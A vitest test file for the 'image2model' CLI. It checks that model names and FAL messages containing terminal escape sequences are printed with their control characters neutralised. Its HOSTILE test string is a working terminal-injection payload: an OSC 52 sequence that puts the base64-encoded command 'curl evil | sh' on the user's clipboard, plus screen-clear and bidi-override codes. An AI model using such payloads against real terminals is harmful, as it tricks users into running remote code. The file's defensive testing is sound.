// Attack: text from outside reaches the CLI's terminal - a model's name (a photo's file name, or a
// rename sent by a compromised window: library:rename keeps any character but spacing) and FAL's log
// lines and error messages (a hostile proxy). `image2model list`, `export` and `convert` printed them
// raw, so ESC/OSC sequences in them were obeyed: clear the screen, retitle the window, or with OSC 52
// set the user's clipboard. Now control characters and bidi overrides are shown as U+FFFD, not obeyed.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, expect, it } from 'vitest';
import { openDatabase } from '../../src/core/db/open';
import { LibraryStore } from '../../src/core/library/store';
import { plainReporter } from '../../src/cli/output';
import type { Job } from '../../src/shared/domain';
import { runCli, stopAllCliRuns } from '../support/cli-process';

const dataDir = mkdtempSync(join(tmpdir(), 'i2m-cli-escapes-'));
afterAll(async () => {
  await stopAllCliRuns();
  rmSync(dataDir, { recursive: true, force: true });
});

/** Sets the clipboard (OSC 52), clears the screen, and reverses the rest of the line. */
const HOSTILE = '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007chair\u001b[2J\u001b[H\u202eelif';
const CONTROLS = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

it('list and export print a hostile model name without its control characters', async () => {
  const db = openDatabase(dataDir);
  new LibraryStore(db, dataDir).insert({
    id: 'hostile-1',
    name: HOSTILE,
    createdAt: Date.now(),
    endpoint: 'offline/relief',
    preset: 'standard',
    jobId: null,
    sha256: 'a'.repeat(64),
    filePath: join(dataDir, 'library', 'missing.glb'),
    stats: { triangles: 10, vertices: 30, materials: 0, textures: [], fileSize: 1 },
    previewPath: null,
    costUsd: null,
    sourceName: 'chair.jpg',
    paramsKey: null,
  });
  db.close();
  const list = await runCli(['list', '--data-dir', dataDir]);
  expect(list.code).toBe(0);
  expect(list.stdout).toContain('chair');
  // The model's file is missing: the error names the model.
  const exported = await runCli(['export', 'hostile-1', '--plan', '--data-dir', dataDir]);
  expect(exported.code).toBe(1);
  expect(exported.stderr).toContain('chair');
  for (const output of [list.stdout, list.stderr, exported.stdout, exported.stderr]) expect(output).not.toMatch(CONTROLS);
}, 60_000);

it('convert prints FAL messages and input names without their control characters', () => {
  const lines: string[] = [];
  const reporter = plainReporter((line) => lines.push(line));
  const job = { id: 'j1', state: 'failed', progress: 0, queuePosition: null, message: HOSTILE, errorMessage: `FAL said: ${HOSTILE}` } as unknown as Job;
  reporter.rejected(`${HOSTILE}.jpg`, 'not an image');
  reporter.job({ id: 'j1', input: `${HOSTILE}.jpg` }, job);
  reporter.summary({ succeeded: 0, failed: 1, needsAttention: 0, pending: 0, outputs: [], problems: [{ input: HOSTILE, message: HOSTILE }] });
  expect(lines.join('\n')).toContain('chair');
  for (const line of lines) expect(line).not.toMatch(CONTROLS);
});
